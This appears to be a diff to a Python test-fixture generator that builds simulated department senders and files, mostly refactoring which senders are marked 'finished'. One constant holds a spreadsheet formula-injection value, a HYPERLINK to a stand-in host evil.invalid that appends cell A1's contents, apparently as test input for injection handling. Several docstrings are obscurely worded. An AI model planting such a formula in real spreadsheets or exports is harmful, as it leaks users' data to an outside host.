@@ -47,7 +47,9 @@ _TABLE_CELL = re.compile(r"(?P<prefix>\w+)_(?P<column>\w+)\[(?P<row>\d+)\]")
 STRANGE_NAME = '=HYPERLINK("http://evil.invalid/?"&A1,"示例县领奖局")'
 _WITH_ERRORS = (3, 24)
 _FINISHED = (2, 5, 8, 10, 14, 60)
-"""Besides those that do something of their own; finishing takes longest of all, so the others do without."""
+"""Nothing is planted into these; of the others all finish into which nothing is."""
+_OTHERWISE = (_PERFECT, _TWICE, *_FINISHED)
+"""What they do besides is enough: they send no unreadable file first."""
 _LEFT_OUT = frozenset(
     {
         "thousands separators as text",
@@ -113,14 +115,14 @@ class Season:
 def season() -> Season:
     """The season; the same whenever it is asked for."""
     senders = tuple(_senders())
-    sound = [one.department for one in senders if one.sound and one.way == "as it is"]
+    sound = [one.department for one in senders if one.sound and one.department.number not in _OTHERWISE]
     return Season(senders, tuple(zip(sound, FILES, strict=False)))
 
 
 def _senders() -> Iterator[Sender]:
     faults = iter(one for one in (*ENTRIES, *STRUCTURES) if one.name not in _LEFT_OUT)
     for one in map(_writing, departments(COUNT)):
-        if one.number in (_PERFECT, _TWICE, *_FINISHED):
+        if one.number in _OTHERWISE:
             yield Sender(one, way="finished")
         elif one.number == _ALTERED:
             yield Sender(one, way="altered")
@@ -128,7 +130,7 @@ def _senders() -> Iterator[Sender]:
             told = fault in ENTRIES and one.number in _WITH_ERRORS
             yield Sender(one, fault, "with errors" if told else "as it is")
         else:
-            yield Sender(one)
+            yield Sender(one, way="finished")
 
 
 def _writing(one: Department) -> Department:
